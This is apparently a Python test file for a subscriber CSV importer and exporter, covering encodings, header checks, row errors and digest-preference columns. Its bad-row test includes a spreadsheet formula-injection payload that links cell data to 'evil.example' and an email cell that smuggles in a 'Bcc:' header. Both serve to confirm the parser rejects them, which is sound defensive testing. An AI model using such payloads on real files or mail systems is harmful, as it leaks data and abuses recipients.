"""subscribers/csv_io.py: reading every kind of bad file clearly, and writing files that read back."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from service.model.preferences import DigestPreferences
from service.store.subscribers.imports import ImportRow
from subscribers import csv_io

TOPICS = ["vla", "testing"]


def parse(text: str | bytes):
    return csv_io.parse(text.encode("utf-8") if isinstance(text, str) else text, TOPICS)


def test_it_reads_rows_with_either_topic_separator_and_default_status():
    parsed = parse("email,topics,status\r\nAlice@Example.ORG,vla;testing,\nbob@example.org, testing  vla ,blocked\n\n")
    assert parsed.ok and parsed.encoding == "utf-8"
    assert parsed.rows == [
        ImportRow("alice@example.org", ["testing", "vla"], "active"),
        ImportRow("bob@example.org", ["testing", "vla"], "blocked"),
    ]


def test_it_drops_a_utf8_bom():
    parsed = parse(b"\xef\xbb\xbfemail,topics\nj\xc3\xb6rg@example.org,vla\n")
    assert parsed.ok and parsed.rows == [ImportRow("jörg@example.org", ["vla"], "active")]


def test_it_reads_latin1_bytes_as_windows_1252():
    parsed = parse("email,topics\nj\xf6rg@example.org,vla\n".encode("latin-1"))
    assert parsed.ok and parsed.encoding == "windows-1252"
    assert parsed.rows[0].email == "jörg@example.org"


def test_it_refuses_bytes_that_are_no_text_encoding_it_knows():
    with pytest.raises(csv_io.CsvError, match="neither UTF-8 nor Windows-1252"):
        parse(b"email\n\x81\x8d@example.org\n")
    with pytest.raises(csv_io.CsvError, match="NUL bytes"):
        parse(b"email\nalice@example.org\x00\n")


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "the file is empty"),
        ("address,topics\nalice@example.org,vla\n", "no 'email' column"),
        ("email,topic\nalice@example.org,vla\n", "unknown column 'topic'"),
        ("email,email\nalice@example.org,alice@example.org\n", "appears twice in the header"),
    ],
)
def test_it_refuses_a_bad_header(text, message):
    with pytest.raises(csv_io.CsvError, match=message):
        parse(text)


def test_it_reports_every_bad_row_with_its_line():
    parsed = parse(
        "email,topics,status\n"
        "alice@example.org,vla,active\n"
        "not-an-address,vla,\n"
        f"{'a' * 300}@example.org,vla,\n"
        "bob@example.org,astrology,\n"
        "carol@example.org,vla,sleeping\n"
        "ALICE@example.org,testing,\n"
        "dave@example.org,vla,active,extra\n"
        '"eve@example.org\r\nBcc: all@example.org",vla,\n'
        '=HYPERLINK("http://evil.example/?"&A1;"click"),vla,\n'
    )
    assert not parsed.ok and parsed.error_count == 8
    assert [e.line for e in parsed.errors] == [3, 4, 5, 6, 7, 8, 10, 11]
    text = [str(e) for e in parsed.errors]
    assert text[0].startswith("line 3: 'not-an-address': That is not a valid email address")
    assert "too long" in text[1]
    assert text[2] == "line 5: unknown topic 'astrology'"
    assert text[3].startswith("line 6: status 'sleeping' is not one of")
    assert text[4] == "line 7: alice@example.org appears twice (first on line 2)"
    assert text[5] == "line 8: 4 cells, but the header has 3 columns"
    assert "line breaks" in text[6] and text[6].startswith("line 10:")
    assert text[7].startswith("line 11: '=HYPERLINK(") and "not a valid email address" in text[7]


def test_it_refuses_an_enormous_cell_as_a_whole_file_error():
    with pytest.raises(csv_io.CsvError, match="line 2: field larger than field limit"):
        parse("email,topics\nalice@example.org," + "vla " * 50_000 + "\n")


def test_it_neutralises_formulas_on_export_and_reads_them_back():
    rows = [
        ImportRow("=hyperlink@example.org", ["vla"], "active"),
        ImportRow("-minus@example.org", [], "blocked"),
        ImportRow("+plus@example.org", ["testing", "vla"], "pending"),
        ImportRow("'quoted@example.org", ["vla"], "active"),
        ImportRow("plain@example.org", ["vla"], "unsubscribed"),
    ]
    out = io.StringIO()
    assert csv_io.write(rows, out) == 5
    cells = list(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == [
        "email",
        "topics",
        "status",
        "digest_length",
        "keywords_include",
        "keywords_exclude",
        "authors",
        "suggestions",
    ]
    assert [row[0] for row in cells[1:]] == [
        "'=hyperlink@example.org",
        "'-minus@example.org",
        "'+plus@example.org",
        "''quoted@example.org",
        "plain@example.org",
    ]
    assert csv_io.neutralise("@SUM(A1)") == "'@SUM(A1)" and csv_io.neutralise("\tx") == "'\tx"
    assert csv_io.neutralise("\rx") == "'\rx"
    assert parse(out.getvalue()).rows == [replace(row, preferences=DigestPreferences()) for row in rows]


def test_it_reads_100k_rows():
    lines = ["email,topics,status"] + [f"reader{n}@example.org,{TOPICS[n % 2]},active" for n in range(100_000)]
    parsed = parse("\n".join(lines))
    assert parsed.ok and len(parsed.rows) == 100_000
    assert parsed.rows[-1] == ImportRow("reader99999@example.org", ["testing"], "active")


def test_it_keeps_the_first_hundred_errors_and_counts_the_rest():
    parsed = parse("email\n" + "\n".join(f"bad{n}" for n in range(250)))
    assert parsed.error_count == 250 and len(parsed.errors) == 100


def test_it_reads_and_writes_the_digest_preference_columns():
    parsed = parse(
        "email,topics,digest_length,keywords_include,keywords_exclude,authors\n"
        'alice@example.org,vla,5,robot; grasping,survey,"LeCun, Yann; Chelsea Finn"\n'
        "bob@example.org,vla,,,,\n"
    )
    assert parsed.ok
    alice, bob = parsed.rows
    assert alice.preferences == DigestPreferences(
        "5", ("robot", "grasping"), ("survey",), ("LeCun, Yann", "Chelsea Finn")
    )
    assert bob.preferences == DigestPreferences()
    out = io.StringIO()
    csv_io.write(parsed.rows, out)
    assert parse(out.getvalue()).rows == parsed.rows


def test_it_leaves_preferences_alone_when_the_file_has_no_preference_columns():
    assert parse("email,topics\nalice@example.org,vla\n").rows[0].preferences is None


@pytest.mark.parametrize(
    "cells, message",
    [
        ("forever,,,", "line 2: digest length 'forever': use full, titles, or a number"),
        ("0,,,", "line 2: digest length '0'"),
        (",robot;;grasping,,", "line 2: keywords to include: an empty entry"),
        (",,robo.*,", r"line 2: keywords to exclude: 'robo.\*' looks like a pattern"),
        (",,,(Yann|Yoshua)", "line 2: authors: '\\(Yann\\|Yoshua\\)' looks like a pattern"),
        ("," + ";".join(f"word{n}" for n in range(500)) + ",,", "line 2: keywords to include: 500 entries; at most 50"),
    ],
)
def test_it_refuses_bad_preference_cells_with_a_clear_message(cells, message):
    parsed = parse("email,digest_length,keywords_include,keywords_exclude,authors\nalice@example.org," + cells + "\n")
    assert not parsed.ok and not parsed.rows
    assert len(parsed.errors) == 1
    assert re.match(message, str(parsed.errors[0])), str(parsed.errors[0])
